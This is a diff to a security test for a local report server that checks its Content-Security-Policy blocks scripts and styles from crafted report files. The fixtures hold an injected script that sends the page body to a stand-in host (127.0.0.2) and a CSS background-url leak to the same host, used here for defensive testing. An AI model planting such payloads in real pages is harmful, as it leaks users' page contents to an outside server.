@@ -17,7 +17,11 @@ const root = mkdtempSync(join(tmpdir(), 'fl-serve-sec-'));
 const genuine = makeRunFolder(root, { seed: 2, stale: true });
 const crafted = makeRunFolder(root, { seed: 1 });
 const EXFIL = "<script>location='http://127.0.0.2/?'+encodeURIComponent(document.body.innerHTML)</script>";
-writeFileSync(join(crafted, 'report.html'), `<!doctype html><html><body>${EXFIL}</body></html>`);
+const LEAK_STYLE = 'background:url(http://127.0.0.2/x)';
+writeFileSync(
+  join(crafted, 'report.html'),
+  `<!doctype html><html><body><i style="${LEAK_STYLE}"></i><i style="background:#123456"></i>${EXFIL}</body></html>`,
+);
 mkdirSync(join(crafted, 'nodes', 'n1'), { recursive: true });
 writeFileSync(join(crafted, 'nodes', 'n1', 'evil.html'), `<html><body>${EXFIL}</body></html>`);
 writeFileSync(join(crafted, 'nodes', 'n1', 'report.html'), `<html>${EXFIL}</html>`);
@@ -79,6 +83,11 @@ test("a listed run's report.html is a page, but only our renderer's scripts may 
   assert.match(fake.type, /^text\/html/);
   const script = /<script>([\s\S]*?)<\/script>/.exec(EXFIL)![1];
   assert.not.ok(fake.csp.includes(sourceHash(script)), "the crafted report's script is not allowed");
+  assert.not.ok(fake.csp.includes(sourceHash(LEAK_STYLE)), 'nor a style attribute other than a colour swatch');
+  assert.ok(fake.csp.includes(`'unsafe-hashes' ${sourceHash('background:#123456')}`), 'a swatch colour is allowed');
+  const swatches = [...real.body.matchAll(/style="([^"]*)"/g)].map((m) => m[1]);
+  assert.ok(swatches.length > 0, 'the real report has legend swatches');
+  for (const s of swatches) assert.ok(real.csp.includes(sourceHash(s)), `the swatch ${s} is allowed`);
   assert.not.match(fake.csp, /unsafe-inline/);
 });
 
